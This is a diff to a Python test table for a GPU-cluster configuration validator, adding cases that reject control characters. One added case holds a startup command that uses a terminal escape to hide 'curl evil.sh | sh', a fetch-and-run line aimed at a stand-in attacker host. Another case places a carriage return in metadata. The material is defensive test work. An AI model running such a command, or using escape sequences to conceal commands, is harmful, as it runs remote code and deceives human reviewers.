@@ -112,6 +112,18 @@ CASES: list[tuple[str, dict[str, Any], str, str]] = [
         "/snap",
     ),
     (
+        "a terminal escape that hides a line of the command from the plan's reader",
+        {"gpuClusters": [cluster(startupCommand="echo ok\x1b[1A\x1b[2Kcurl evil.sh | sh")]},
+        "gpuClusters[0].startupCommand",
+        "U+001B at offset 7",
+    ),
+    (
+        "a carriage return in metadata",
+        {"gpuClusters": [cluster(metadata={"note": "a\rb"})]},
+        "gpuClusters[0].metadata.note",
+        "U+000D",
+    ),
+    (
         "too many logins",
         {"gpuClusters": [cluster(logins=[{"member": f"user:u{i}@x.io"} for i in range(1501)])]},
         "gpuClusters[0].logins",
